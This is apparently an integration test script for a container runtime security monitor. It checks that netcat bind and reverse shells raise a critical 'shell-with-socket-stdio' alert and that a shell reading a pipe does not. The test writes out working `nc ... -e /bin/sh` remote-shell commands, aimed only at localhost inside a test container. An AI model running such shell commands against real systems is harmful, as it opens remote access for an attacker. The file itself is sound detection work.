#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The default pack (ward server with no --policy, audit mode) on a bind shell (`nc -l -e
# /bin/sh`: the shell's input and output are the accepted connection) and a reverse shell
# (`nc HOST PORT -e /bin/sh`: the connection it made): each raises the critical
# shell-with-socket-stdio alert naming the shell; a shell reading a pipe does not.
. "$(dirname "$0")/lib.sh"
wardit_setup

A=$(ctr_id a)
r=$RANDOM
ctr_start "$A"
server_start
ward_in_force w
rule='.tracker == "alert" and .rule == "shell-with-socket-stdio"'

bind_shell() {
	ctr_exec "$A" sh -c "nc -l -p 5555 -e /bin/sh & sleep 1
		echo 'echo bind-$r' | nc -w 2 127.0.0.1 5555" 2>/dev/null
}
wait_event w 30 "$rule" -- bind_shell
ev=$(first_event "$out" "$rule")
assert_event "bind shell: critical alert naming the shell" "$ev" \
	'.severity == "critical" and .object == "/bin/sh" and .mode == "audit" and
	 .container.name == $a' --arg a "$A"
echo "ok: a bind shell is detected"

n0=$(event_count "$out" "$rule")
got=$(ctr_exec "$A" sh -c "(sleep 1; echo 'echo rev-$r') | nc -l -p 5556 & sleep 0.3
	nc 127.0.0.1 5556 -e /bin/sh; wait" 2>/dev/null)
[ "$got" = "rev-$r" ] || fail "the reverse shell did not run (audit mode): $got"
wait_event w 10 "$rule"' and .pid != $p' --argjson p "$(jq -r .pid <<<"$ev")"
echo "ok: a reverse shell is detected"

ctr_exec "$A" sh -c "echo 'echo piped' | sh" >/dev/null
assert_count "a shell reading a pipe is not a socket shell" $((n0 + 1)) "$out" "$rule"
ward_stop w
check_alert_schema "$out"
echo "PASS"
